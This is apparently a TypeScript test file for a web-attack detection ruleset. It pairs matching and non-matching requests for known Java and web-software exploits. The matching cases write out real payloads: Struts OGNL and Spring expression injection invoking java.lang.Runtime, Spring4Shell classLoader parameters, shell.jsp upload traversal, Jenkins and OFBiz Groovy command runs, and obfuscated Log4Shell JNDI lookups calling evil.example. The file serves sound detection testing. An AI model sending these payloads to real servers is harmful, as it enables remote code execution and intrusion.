import { type Cases, agent, form, get, header, json, post, query, upload, xml } from '../../testing.ts';

export const knownSoftwareJavaCases: Readonly<Record<string, Cases>> = {
  '100001': {
    hits: [
      get('/index.action?redirect:http://evil.example/'),
      get('/x.action?a=1&redirectAction:http://evil.example'),
    ],
    misses: [get('/login?redirect=https://www.example.com/'), get('/?redirect:home')],
  },
  '100002': {
    hits: [get('/index.action?redirect:${#a=1}'), get('/?method:%23_memberAccess%3D1,x')],
    misses: [get('/?action=edit&method=post'), get('/?action:save=Save')],
  },
  '100003': {
    hits: [post('/', "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", 'x')],
    misses: [post('/', 'multipart/form-data; boundary=x', 'x')],
  },
  '100004': {
    hits: [
      get('/%24%7B(%23a%3D@java.lang.Runtime@getRuntime())%7D/help.action'),
      query('%{(#context.x)}'),
      form("%{#request['x']}"),
    ],
    misses: [query('100% {sure}'), form('Use ${name} and #hashtag'), form('color: #request')],
  },
  '100004B': {
    hits: [
      form({ uploadFileName: '../../shell.jsp' }),
      post(
        '/',
        'multipart/form-data; boundary=b',
        '--b\r\ncontent-disposition: form-data; name="uploadFileName"\r\n\r\n../x.jsp\r\n--b--',
      ),
    ],
    misses: [form({ uploadFileName: 'photo.jpg' }), upload('photo.jpg', 'x')],
  },
  '100005': {
    hits: [
      form({ 'class.module.classLoader.resources.context.parent.pipeline.first.pattern': 'x' }),
      get('/?class.classLoader.jarPath=1'),
      get("/?class['classLoader'].x=1"),
    ],
    misses: [get('/?class=economy'), form('the ClassLoader class')],
  },
  '100006': {
    hits: [header('spring.cloud.function.routing-expression', 'T(x)')],
    misses: [header('spring-profile', 'x')],
  },
  '100006B': {
    hits: [json({ id: 'x' }, '/actuator/gateway/routes/x')],
    misses: [get('/actuator/gateway/routes'), json({}, '/gateway/routes')],
  },
  '100006C': {
    hits: [
      form({ 'username[#this.getClass().forName("java.lang.Runtime")]': 'x' }),
      json([{ op: 'replace', path: 'T(java.lang.Runtime).getRuntime().exec(x)' }]),
    ],
    misses: [json([{ op: 'replace', path: '/name', value: 'x' }])],
  },
  '100007': {
    hits: [
      get('/%24%7B%40java.lang.Runtime%40getRuntime().exec(%22id%22)%7D/'),
      form({ queryString: '\\u0027+{Class.forName(\\u0027x\\u0027)}+\\u0027' }),
    ],
    misses: [get('/pages/$%7Bname%7D'), form({ queryString: "it's + fun" })],
  },
  '100007B': {
    hits: [
      get('/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false'),
      get('/json/setup-restore.action'),
      form('x', '/template/aui/text-inline.vm'),
    ],
    misses: [get('/setup/guide'), get('/template/aui/text-inline.vm')],
  },
  '100007C': {
    hits: [
      get('/plugins/servlet/gadgets/makeRequest?url=https://jira.example@evil.example/'),
      get('/rest/api/latest/projects/P/repos/r/archive?prefix=x%00--exec=id'),
    ],
    misses: [
      get('/plugins/servlet/gadgets/makeRequest?url=https://jira.example/rest'),
      get('/rest/api/latest/projects/P/repos/r/archive?format=zip'),
    ],
  },
  '100031': {
    hits: [
      xml('<x/>', '/wls-wsat/CoordinatorPortType'),
      get('/console/images/%252E%252E%252Fconsole.portal'),
    ],
    misses: [get('/console/login'), get('/wls/')],
  },
  '100031B': {
    hits: [
      form(
        { groovyProgram: 'throw new Exception("id".execute().text)' },
        '/webtools/control/ProgramExport?x',
      ),
      form('org.springframework.context.support.ClassPathXmlApplicationContext("http://x")'),
    ],
    misses: [form({ program: 'x' }), get('/webtools/control/main')],
  },
  '100031C': {
    hits: [
      { ...get('/shell.jsp/'), method: 'PUT' },
      { ...get('/x.session'), method: 'PUT' },
    ],
    misses: [get('/index.jsp'), { ...get('/api/item/1'), method: 'PUT' }],
  },
  '100031D': {
    hits: [get('/x/..;/admin'), get('/nacos/v1/auth/users', { 'user-agent': 'Nacos-Server' })],
    misses: [get('/admin'), get('/a;jsessionid=1/b')],
  },
  '100032': {
    hits: [
      get(
        '/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript',
      ),
      form({ script: '"id".execute().text' }, '/script'),
    ],
    misses: [get('/job/build/console'), form({ script: 'act one' }, '/script')],
  },
  '100032B': {
    hits: [
      upload('x.jpg', 'AT&TFORM\0\0\x03\xafDJVMDIRM'),
      post(
        '/users/password',
        'application/x-www-form-urlencoded',
        'user[email][]=a@b.example&user[email][]=e@evil.example',
      ),
    ],
    misses: [
      upload('x.jpg', 'AT&T store'),
      post('/users/password', 'application/x-www-form-urlencoded', 'user[email]=a@b.example'),
    ],
  },
  '100514': {
    hits: [
      agent('${jndi:ldap://evil.example/a}'),
      query('${jndi:rmi://evil.example/a}'),
      header('x-api-version', '${JNDI:dns://x}'),
      get('/$%7Bjndi:ldap://x%7D'),
      form('${jndi:ldap://127.0.0.1#evil.example/a}'),
      { ...json({}), body: '{"u":"\\u0024\\u007bjndi:ldap://x}"}' },
    ],
    misses: [query('jndi: ldap tutorial'), agent('${name}'), json({ t: '${jndiName}' })],
  },
  '100515': {
    hits: [
      agent('${${lower:j}ndi:${lower:l}dap://evil.example/a}'),
      query('${${::-j}${::-n}${::-d}${::-i}:rmi://x}'),
      header('referer', '${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}'),
      form('${j${k8s:k5:-ND}i:ldap://x}'),
      header('x-forwarded-for', '${${upper:${lower:j}}ndi:ldap://x}'),
    ],
    misses: [json({ compose: '${PORT:-${DEFAULT_PORT}}' }), json({ js: '`${a ? `${b}` : 1}`' })],
  },
  '100516': {
    hits: [agent('%24%7Bjndi:ldap://x%7D'), header('x-id', 'jndi:ldap://evil.example/')],
    misses: [header('referer', 'https://example.com/?p=%24%7Bprice%7D'), agent('jndi-client/1.0')],
  },
};
